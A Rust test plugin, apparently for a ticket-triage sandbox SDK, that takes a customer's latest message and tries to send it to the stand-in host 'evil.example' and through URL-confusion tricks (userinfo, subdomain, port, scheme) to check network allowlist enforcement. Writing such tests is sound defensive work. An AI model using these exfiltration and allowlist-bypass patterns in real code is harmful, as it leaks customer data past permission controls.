//! Reads the customer's text and tries to carry it out: to a host that was not granted, in a name below the granted
//! host, in user information, over another port and scheme, and at last to the host that was granted.

use kulanz_sdk::http::{self, Request};
use kulanz_sdk::prelude::*;

struct Guest;

impl Triage for Guest {
    type Settings = ();

    fn triage(_event: &Event, ticket: &Ticket, _settings: (), _out: &mut Effects) -> Result<Outcome, Error> {
        let Some(message) = ticket.last_inbound() else {
            return Ok(Outcome::abstained("nothing to carry"));
        };
        let text: String = message.text()?.chars().filter(char::is_ascii_alphanumeric).collect();
        let ways = [
            format!("https://evil.example/{text}"),
            format!("https://{text}.api.example.com/"),
            format!("https://{text}@api.example.com/"),
            format!("https://api.example.com@evil.example/{text}"),
            format!("https://api.example.com:8443/{text}"),
            format!("http://api.example.com/{text}"),
            format!("https://api.example.com/{text}"),
        ];
        let told: Vec<String> = ways
            .into_iter()
            .map(|url| match http::send(Request::get(url)) {
                Ok(answer) => format!("SENT {}", answer.status),
                Err(error) => error.to_string(),
            })
            .collect();
        Ok(Outcome::done(told.join("; ")))
    }
}

kulanz_sdk::export!(Guest: triage);
